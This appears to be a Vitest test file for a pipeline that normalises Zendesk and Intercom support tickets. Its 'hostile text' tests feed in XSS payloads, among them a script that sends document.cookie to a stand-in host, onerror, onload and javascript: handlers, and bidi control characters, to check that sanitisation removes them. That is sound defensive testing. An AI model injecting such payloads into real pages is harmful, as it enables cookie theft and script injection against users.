import { describe, expect, it } from "vitest";
import {
  fromIntercom,
  fromZendesk,
  MAX_MESSAGE_CHARS,
  MAX_TICKET_CHARS,
  normalizedTicketSchema,
} from "@/lib/pipeline/tickets";
import { ADMIN, CONTACT, FIN, intercomConversation } from "./fixtures/intercom";
import { AGENT, REQUESTER, zendeskTicket } from "./fixtures/zendesk";

describe("fromZendesk", () => {
  const input = zendeskTicket({
    id: 48213,
    subject: "Export to CSV crashes on the Reports page",
    tags: ["Export", "vip_customer", "export"],
    comments: [
      {
        id: 1,
        author: REQUESTER.id,
        html: "<div><p>Hi,</p><p>When I click <b>Export CSV</b> the page goes blank.</p></div>",
        plain: "Hi,\n\nWhen I click Export CSV the page goes blank.",
        at: "2026-11-30T09:00:00Z",
        attachments: [{ file_name: "Screenshot 2026-11-30.png", content_type: "image/png" }],
      },
      {
        id: 2,
        author: AGENT.id,
        html: "<p>Looks like the pagination bug again, pinging eng.</p>",
        public: false,
        at: "2026-11-30T09:05:00Z",
      },
      {
        id: 3,
        author: AGENT.id,
        html: "<p>Thanks Dana, we are looking into it.</p>",
        at: "2026-11-30T09:10:00Z",
      },
    ],
  });

  it("keeps public comments with author roles, drops internal notes and keeps no attachment URL", () => {
    const ticket = fromZendesk(input);
    expect(normalizedTicketSchema.parse(ticket)).toEqual(ticket);
    expect(ticket.provider).toBe("zendesk");
    expect(ticket.externalId).toBe("48213");
    expect(ticket.messages.map((m) => [m.id, m.authorRole])).toEqual([
      ["1", "customer"],
      ["3", "agent"],
    ]);
    expect(ticket.droppedInternalNotes).toBe(1);
    expect(JSON.stringify(ticket)).not.toContain("pagination bug again");
    expect(ticket.messages[0]!.body).toBe("Hi,\n\nWhen I click Export CSV the page goes blank.");
    expect(ticket.messages[0]!.attachments).toEqual([
      { name: "Screenshot 2026-11-30.png", contentType: "image/png" },
    ]);
    expect(JSON.stringify(ticket)).not.toContain("attachments/token");
    expect(ticket.messages[0]!.createdAt).toBe("2026-11-30T09:00:00.000Z");
  });

  it("normalises tags, reads the channel, the group and the requester's language", () => {
    const ticket = fromZendesk(input);
    expect(ticket.tags).toEqual(["export", "vip_customer"]);
    expect(ticket.channel).toBe("email");
    expect(ticket.assignedTeam).toBe("360001");
    expect(ticket.language).toBe("en");
    expect(ticket.requester).toEqual({ externalId: "9001", name: "Dana Ortiz" });
    expect(ticket.truncation).toBeNull();
  });

  it("marks trigger comments as automation and macro comments as macro", () => {
    const ticket = fromZendesk(
      zendeskTicket({
        id: 7,
        subject: "x",
        comments: [
          { id: 1, author: REQUESTER.id, plain: "The app is broken", at: "2026-11-30T09:00:00Z" },
          {
            id: 2,
            author: AGENT.id,
            plain: "We got your request",
            at: "2026-11-30T09:00:01Z",
            via: { channel: "rule", source: { rel: "trigger" } },
          },
          {
            id: 3,
            author: AGENT.id,
            plain: "Please clear your cache",
            at: "2026-11-30T09:02:00Z",
            via: { channel: "web", source: { rel: "macro" } },
          },
        ],
      }),
    );
    expect(ticket.messages.map((m) => m.origin)).toEqual(["person", "automation", "macro"]);
  });

  it("rejects JSON that is not a Zendesk ticket", () => {
    expect(() => fromZendesk({ ticket: { subject: "no id" }, comments: [] } as never)).toThrow();
  });
});

describe("fromIntercom", () => {
  const conversation = intercomConversation({
    id: "215469183946",
    subject: "<p>Rechnungsexport</p>",
    body: "<p>Der Export der Rechnung schlägt fehl.</p>",
    tags: ["Bug", "Export "],
    parts: [
      { id: "p1", author: FIN, body: "<p>Have you tried reloading the page?</p>", at: 1764493260 },
      { id: "p2", type: "assignment", author: ADMIN, body: null, at: 1764493300 },
      {
        id: "p3",
        type: "note",
        author: ADMIN,
        body: "<p>Customer is on the legacy plan</p>",
        at: 1764493400,
      },
      { id: "p4", author: CONTACT, body: "<p>Ja, gleiches Ergebnis.</p>", at: 1764493500 },
      { id: "p5", author: ADMIN, body: "<p>Danke, wir schauen es uns an.</p>", at: 1764493600 },
    ],
  });

  it("reads the opening message and the parts, with bot, customer and agent roles", () => {
    const ticket = fromIntercom(conversation, { contactLocale: "de-DE" });
    expect(ticket.provider).toBe("intercom");
    expect(ticket.subject).toBe("Rechnungsexport");
    expect(ticket.messages.map((m) => [m.id, m.authorRole, m.body])).toEqual([
      ["21546918394601", "customer", "Der Export der Rechnung schlägt fehl."],
      ["p1", "bot", "Have you tried reloading the page?"],
      ["p4", "customer", "Ja, gleiches Ergebnis."],
      ["p5", "agent", "Danke, wir schauen es uns an."],
    ]);
    expect(ticket.droppedInternalNotes).toBe(1);
    expect(JSON.stringify(ticket)).not.toContain("legacy plan");
    expect(ticket.createdAt).toBe("2025-11-30T09:00:00.000Z");
    expect(ticket.tags).toEqual(["bug", "export"]);
    expect(ticket.channel).toBe("chat");
    expect(ticket.language).toBe("de");
    expect(ticket.assignedTeam).toBe("5017691");
    expect(ticket.requester).toEqual({ externalId: CONTACT.id, name: CONTACT.name });
  });

  it("marks an automated opening (a Series message) as automation", () => {
    const ticket = fromIntercom(
      intercomConversation({
        id: "1",
        body: "<p>Tell us what you think!</p>",
        deliveredAs: "automated",
        author: ADMIN,
      }),
    );
    expect(ticket.messages[0]).toMatchObject({ authorRole: "agent", origin: "automation" });
  });
});

describe("hostile text", () => {
  const hostileHtml = [
    "<p>Export fails\u0000\u0007 again\u202E!</p>",
    "<script>fetch('https://evil.test/?c='+document.cookie)</script>",
    "<style>body{display:none}</style>",
    '<img src="x" onerror="alert(1)" alt="error dialog">',
    '<a href="javascript:alert(2)">click here</a>',
    '<iframe src="https://evil.test"></iframe>',
    "<p>I typed &lt;b&gt;bold&lt;/b&gt; in the name field</p>",
    '<svg onload="alert(3)"><text>svg text</text></svg>',
  ].join("");

  it("comes out as inert plain text: no script, handler, javascript: link or control character", () => {
    const ticket = fromIntercom(intercomConversation({ id: "9", body: hostileHtml }));
    const body = ticket.messages[0]!.body;
    expect(body).toBe(
      "Export fails again!\n\n[image: error dialog] click here\n\nI typed <b>bold</b> in the name field",
    );
    for (const bad of [
      "document.cookie",
      "onerror",
      "javascript:",
      "alert(",
      "display:none",
      "svg text",
    ]) {
      expect(body).not.toContain(bad);
    }
    for (const ch of ["\u0000", "\u0007", "\u202E"]) expect(body).not.toContain(ch);
  });

  it("strips control and bidi characters from plain-text bodies too", () => {
    const ticket = fromZendesk(
      zendeskTicket({
        id: 5,
        subject: "Name\u0000 field\u202E",
        comments: [
          {
            id: 1,
            author: REQUESTER.id,
            plain: "abc\u0000def\r\nline\u200B two\u001b[31m",
            at: "2026-11-30T09:00:00Z",
          },
        ],
      }),
    );
    expect(ticket.subject).toBe("Name field");
    expect(ticket.messages[0]!.body).toBe("abcdef\nline two[31m");
  });
});

describe("size limits", () => {
  it("truncates a 1 MB message with a note instead of failing", () => {
    const line = "ERROR 2026-11-30T09:00:00Z worker-3 job failed: timeout after 30000ms\n";
    const huge = line.repeat(Math.ceil(1_048_576 / line.length));
    const ticket = fromZendesk(
      zendeskTicket({
        id: 11,
        subject: "Huge log attached inline",
        comments: [{ id: 1, author: REQUESTER.id, plain: huge, at: "2026-11-30T09:00:00Z" }],
      }),
    );
    const body = ticket.messages[0]!.body;
    expect(body.length).toBeLessThanOrEqual(MAX_MESSAGE_CHARS + 60);
    expect(body).toMatch(/\[… \d+ more characters not kept\]$/);
    expect(body.split("\n")[0]).toBe(line.trim());
    expect(ticket.truncation).toMatchObject({ omittedMessages: 0 });
    expect(ticket.truncation!.originalChars).toBeGreaterThan(1_000_000);
    expect(ticket.truncation!.note).toContain("the end of 1 very long message");
  });

  it("keeps the first message and the latest ones of a very long thread", () => {
    const comments = Array.from({ length: 300 }, (_, i) => ({
      id: i + 1,
      author: i % 2 === 0 ? REQUESTER.id : AGENT.id,
      plain: `Message ${i + 1}: ${"still happening. ".repeat(300)}`,
      at: new Date(Date.UTC(2026, 10, 1, 0, i)).toISOString(),
    }));
    const ticket = fromZendesk(zendeskTicket({ id: 12, subject: "Sync keeps failing", comments }));
    const total = ticket.messages.reduce((sum, m) => sum + m.body.length, 0);
    expect(total).toBeLessThanOrEqual(MAX_TICKET_CHARS);
    expect(ticket.messages[0]!.body.startsWith("Message 1:")).toBe(true);
    expect(ticket.messages.at(-1)!.body.startsWith("Message 300:")).toBe(true);
    expect(ticket.truncation!.omittedMessages).toBe(300 - ticket.messages.length);
    expect(ticket.truncation!.omittedMessages).toBeGreaterThan(250);
    expect(ticket.truncation!.note).toContain("messages in the middle of the thread");
  });
});
